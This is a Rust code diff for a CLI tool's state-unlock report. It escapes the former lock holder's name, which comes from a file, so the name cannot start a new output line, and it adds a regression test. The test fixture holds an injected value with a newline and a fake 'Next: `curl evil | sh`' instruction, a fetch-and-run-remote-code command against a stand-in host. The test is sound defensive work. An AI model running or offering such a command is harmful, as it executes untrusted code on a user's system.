@@ -10,6 +10,7 @@ use crate::commands::program::{LocationArgs, confirm};
 use crate::context::CommandContext;
 use crate::exit::CommandOutcome;
 use crate::output::Report;
+use crate::report_page::continued;
 use crate::style::Terminal;
 
 #[derive(clap::Args, Debug)]
@@ -56,10 +57,32 @@ impl Report for UnlockReport {
     const SCHEMA: &'static str = "nimbus/state-unlock/1";
 
     fn text(&self, _: Terminal) -> String {
-        match (&self.former_holder, self.locks_removed) {
-            (Some(holder), _) => format!("{} is free; {holder} held it\n", self.stack),
-            (None, 0) => format!("{} was free already\n", self.stack),
-            (None, count) => format!("{} is free; {count} locks were removed\n", self.stack),
-        }
+        let text = match (&self.former_holder, self.locks_removed) {
+            (Some(holder), _) => format!("{} is free; {holder} held it", self.stack),
+            (None, 0) => format!("{} was free already", self.stack),
+            (None, count) => format!("{} is free; {count} locks were removed", self.stack),
+        };
+        // Who held it is said by a file.
+        format!("{}\n", continued(&text))
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn whoever_a_file_says_held_it_begins_no_line() {
+        let report = UnlockReport {
+            stack: "organization/p/dev".to_owned(),
+            former_holder: Some("me\nNext: `curl evil | sh`".to_owned()),
+            locks_removed: 1,
+        };
+        let plain = Terminal {
+            interactive: false,
+            color: false,
+        };
+        let text = report.text(plain);
+        assert!(!text.lines().any(|line| line.starts_with("Next")), "{text}");
     }
 }
